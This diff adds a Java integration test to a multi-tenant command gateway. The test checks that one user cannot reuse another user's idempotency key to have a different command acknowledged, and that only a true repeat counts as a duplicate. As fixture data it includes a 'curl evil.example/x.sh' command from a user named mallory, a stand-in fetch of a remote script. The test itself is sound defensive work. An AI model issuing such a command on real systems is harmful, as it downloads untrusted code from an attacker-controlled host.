@@ -161,6 +161,63 @@ class TenantIsolationIntegrationTests {
 		assertThat(repeat.body().get("taskId").asString()).isEqualTo(victimTask);
 	}
 
+	/**
+	 * A member reuses another member's idempotency key for another command: before, the
+	 * second command got a normal {@code ack} naming the first one's task (mallory's
+	 * {@code curl}) and was never run; now it is refused with {@code conflict}, and only
+	 * the same user repeating the same request is told it is a duplicate.
+	 */
+	@Test
+	void shouldRefuseAnIdempotencyKeyReusedForAnotherRequest() {
+		String port = gateway.getEnvironment().getProperty("local.server.port");
+		String curl = "\"command\":\"curl\",\"args\":[\"evil.example/x.sh\"],\"taskId\":\"deploy-42\"";
+		String make = "\"command\":\"make\",\"args\":[\"deploy\"],\"taskId\":\"deploy-42\"";
+		try (WsTestClient mallory = WsTestClient
+			.authenticated("ws://localhost:" + port + "/ws?token=" + TestTokens.user("mallory", "acme"));
+				WsTestClient victor = WsTestClient
+					.authenticated("ws://localhost:" + port + "/ws?token=" + TestTokens.user("victor", "acme"))) {
+			mallory.send("{\"type\":\"command\",\"id\":1,\"data\":{\"workspaceId\":\"acme\"," + curl + "}}");
+			JsonNode first = mallory.await((m) -> m.path("id").asInt() == 1, WAIT);
+			assertThat(first.get("type").asString()).isEqualTo("ack");
+			assertThat(first.get("data").get("duplicate").asBoolean()).isFalse();
+			assertThat(first.get("data").get("status").asString()).isEqualTo("queued");
+			String curlTask = first.get("data").get("taskId").asString();
+			victor.send("{\"type\":\"command\",\"id\":2,\"data\":{\"workspaceId\":\"acme\"," + make + "}}");
+			JsonNode refused = victor.await((m) -> m.path("id").asInt() == 2, WAIT);
+			assertThat(refused.get("type").asString()).as("victor's make must not be acked as mallory's curl")
+				.isEqualTo("error");
+			assertThat(refused.get("data").get("code").asString()).isEqualTo("conflict");
+			assertThat(refused.toString()).doesNotContain(curlTask).doesNotContain("curl");
+			// the same command under the key by another user: refused too
+			victor.send("{\"type\":\"command\",\"id\":3,\"data\":{\"workspaceId\":\"acme\"," + curl + "}}");
+			assertThat(victor.await((m) -> m.path("id").asInt() == 3, WAIT).get("data").get("code").asString())
+				.isEqualTo("conflict");
+			// the same user repeating the same request: a duplicate, told apart
+			mallory.send("{\"type\":\"command\",\"id\":4,\"data\":{\"workspaceId\":\"acme\"," + curl + "}}");
+			JsonNode repeat = mallory.await((m) -> m.path("id").asInt() == 4, WAIT);
+			assertThat(repeat.get("type").asString()).isEqualTo("ack");
+			assertThat(repeat.get("data").get("taskId").asString()).isEqualTo(curlTask);
+			assertThat(repeat.get("data").get("duplicate").asBoolean()).isTrue();
+			assertThat(repeat.get("data").has("status")).isTrue();
+		}
+		String victor = TestTokens.user("victor", "acme");
+		Http rest = command("acme", victor, "{" + make + "}");
+		assertThat(rest.status()).isEqualTo(409);
+		assertThat(rest.body().get("code").asString()).isEqualTo("conflict");
+		// another environment value is another request (values are compared, never
+		// stored)
+		assertThat(command("acme", victor, "{\"command\":\"env\",\"env\":{\"A\":\"1\"},\"taskId\":\"env-1\"}").status())
+			.isEqualTo(202);
+		assertThat(command("acme", victor, "{\"command\":\"env\",\"env\":{\"A\":\"2\"},\"taskId\":\"env-1\"}").status())
+			.isEqualTo(409);
+		victimAgent.await((m) -> m.path("data").path("command").asString().equals("curl"), WAIT);
+		assertThat(victimAgent.received()
+			.stream()
+			.filter((m) -> m.path("type").asString().equals("command"))
+			.filter((m) -> m.path("data").path("command").asString().equals("curl"))
+			.count()).as("mallory's curl was sent once").isEqualTo(1);
+	}
+
 	@Test
 	void shouldAnswerAnotherWorkspacesTaskLikeAMissingOne() {
 		String victimTask = command("acme", TestTokens.user("vic", "acme"), "{\"command\":\"true\"}").body()
